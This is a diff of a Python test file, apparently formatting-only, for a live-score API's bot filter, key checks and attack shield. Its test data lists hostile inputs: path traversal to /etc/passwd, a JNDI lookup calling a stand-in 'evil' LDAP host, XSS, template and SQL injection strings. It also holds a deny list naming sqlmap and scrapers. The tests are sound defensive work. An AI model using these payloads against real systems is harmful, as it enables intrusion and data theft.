@@ -21,9 +21,11 @@ def metric(text: str, name: str) -> float:
 @pytest.fixture
 async def started(run_program):
     """A function: an API with these settings; its port and itself."""
+
     async def start(**settings):
         api = await run_program("livescore-api", **settings)
         return (await api.logged("api_listening"))["port"], api
+
     return start
 
 
@@ -40,13 +42,25 @@ async def status_of(port: int, *request) -> int:
 
 # ---- bots
 
+
 async def test_in_production_people_and_friendly_bots_are_served_and_others_not(started):
     port, api = await started(**PRODUCTION)
-    for agent in (BROWSER, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-                  "facebookexternalhit/1.1", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"):
+    for agent in (
+        BROWSER,
+        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
+        "facebookexternalhit/1.1",
+        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
+    ):
         assert await status_of(port, "/api/matches", agent) == 200, agent
-    for agent in ("curl/8.5.0", "Scrapy/2.11.2 (+https://scrapy.org)", "python-requests/2.32.3",
-                  BROWSER.replace("Firefox", "HeadlessChrome"), "sqlmap/1.8", None, ""):
+    for agent in (
+        "curl/8.5.0",
+        "Scrapy/2.11.2 (+https://scrapy.org)",
+        "python-requests/2.32.3",
+        BROWSER.replace("Firefox", "HeadlessChrome"),
+        "sqlmap/1.8",
+        None,
+        "",
+    ):
         async with Wire(port) as wire:
             wire.send(get("/api/matches", agent))
             answer = await wire.response()
@@ -93,14 +107,20 @@ async def test_programs_with_a_good_key_are_served_and_with_a_bad_one_are_told(s
     assert answer.headers["WWW-Authenticate"].startswith("Bearer")
     for good in (f"X-API-Key: {BOOTSTRAP}", f"Authorization: Bearer {BOOTSTRAP}", f"Authorization: Bearer {token()}"):
         assert await status_of(port, "/api/matches", "curl/8.5.0", good) == 200
-    for bad in ("Authorization: Bearer some-key", "Authorization: Basic eDp5", f"Authorization: Bearer {token(-60)}",
-                f"X-API-Key: {BOOTSTRAP}\r\nX-API-Key: {BOOTSTRAP}"):
+    for bad in (
+        "Authorization: Bearer some-key",
+        "Authorization: Basic eDp5",
+        f"Authorization: Bearer {token(-60)}",
+        f"X-API-Key: {BOOTSTRAP}\r\nX-API-Key: {BOOTSTRAP}",
+    ):
         assert await status_of(port, "/api/matches", "curl/8.5.0", bad) == 401, bad
         assert await status_of(port, "/api/matches", BROWSER, bad) == 200, "people are nobody's business"
 
 
 async def test_what_is_allowed_and_denied_can_be_said(started):
-    port, _ = await started(BOT_MODE="enforce", BOT_ALLOW="http_library,^OurCrawler/", BOT_DENY="python-requests,search_engine")
+    port, _ = await started(
+        BOT_MODE="enforce", BOT_ALLOW="http_library,^OurCrawler/", BOT_DENY="python-requests,search_engine"
+    )
     assert await status_of(port, "/api/matches", "curl/8.5.0") == 200
     assert await status_of(port, "/api/matches", "OurCrawler/1.0") == 200
     assert await status_of(port, "/api/matches", "python-requests/2.32.3") == 403
@@ -132,11 +152,21 @@ async def test_development_minds_nobody(stack, api1):
 
 # ---- the shield
 
+
 async def test_attacks_are_refused_and_told_without_their_query(started):
     port, api = await started(SHIELD_MODE="enforce")
-    attacks = ["/../../etc/passwd", "/api/matches/%2e%2e/%2e%2e/secret", "/api/matches/%252e%252e%252fsecret",
-               "/api/matches/1%00", ATTACK, "/api/matches?team=%7B%7B7*7%7D%7D", "/.env", "/wp-login.php",
-               "/api/matches?q=%3Cscript%3Ealert(1)%3C/script%3E", "/api/matches?token=s3cret&x=${jndi:ldap://evil/a}"]
+    attacks = [
+        "/../../etc/passwd",
+        "/api/matches/%2e%2e/%2e%2e/secret",
+        "/api/matches/%252e%252e%252fsecret",
+        "/api/matches/1%00",
+        ATTACK,
+        "/api/matches?team=%7B%7B7*7%7D%7D",
+        "/.env",
+        "/wp-login.php",
+        "/api/matches?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/api/matches?token=s3cret&x=${jndi:ldap://evil/a}",
+    ]
     for attack in attacks:
         async with Wire(port) as wire:
             wire.send(get(attack))
@@ -145,7 +175,9 @@ async def test_attacks_are_refused_and_told_without_their_query(started):
             assert b"s3cret" not in answer.body
     async with Wire(port) as wire:
         wire.send(get("/metrics"))
-        assert metric((await wire.response()).body.decode(), 'livescore_api_denied_total{reason="shield"}') == len(attacks)
+        assert metric((await wire.response()).body.decode(), 'livescore_api_denied_total{reason="shield"}') == len(
+            attacks
+        )
     await api.logged("request_denied")
     assert not any("s3cret" in line for line in api.output)
 
@@ -154,20 +186,27 @@ async def test_what_people_write_is_content(started, api1):
     port, _ = await started(SHIELD_MODE="enforce")
     match = await api1.create_match()
     async with Http(f"http://127.0.0.1:{port}") as http:
-        message = "'; DROP TABLE matches; -- SELECT * FROM users <script>alert(1)</script> ../../etc/passwd ${7*7} {{7*7}}"
+        message = (
+            "'; DROP TABLE matches; -- SELECT * FROM users <script>alert(1)</script> ../../etc/passwd ${7*7} {{7*7}}"
+        )
         entry = await http.comment(match["id"], message)
         assert entry["message"] == message
         named = await http.create_match(homeTeam="O'Brien's Union SELECT", awayTeam="1. FC Köln & Söhne")
         found = await http.get("/api/matches", params={"team": "O'Brien's Union SELECT"})
         assert [one["id"] for one in found.data] == [named["id"]]
         assert (await http.get("/api/matches", params={"team": "Drop Zone; Table Tennis"})).status == 200
-        assert (await http.get("/api/matches", params={"timezone": "Europe/Berlin", "date": "2026-11-21"})).status == 200
+        assert (
+            await http.get("/api/matches", params={"timezone": "Europe/Berlin", "date": "2026-11-21"})
+        ).status == 200
 
 
 async def test_heads_that_are_too_large_are_refused_and_counted(started):
     port, _ = await started(HTTP_MAX_HEADER_BYTES="4096", HTTP_MAX_HEADERS="20", HTTP_MAX_URL_BYTES="512")
-    for request, status in ((get("/api/matches", BROWSER, "X: " + "x" * 5000), 431),
-                            (get("/api/matches", BROWSER, *["X: 1"] * 30), 431), (get("/api/" + "x" * 512), 414)):
+    for request, status in (
+        (get("/api/matches", BROWSER, "X: " + "x" * 5000), 431),
+        (get("/api/matches", BROWSER, *["X: 1"] * 30), 431),
+        (get("/api/" + "x" * 512), 414),
+    ):
         async with Wire(port) as wire:
             wire.send(request)
             answer = await wire.response()
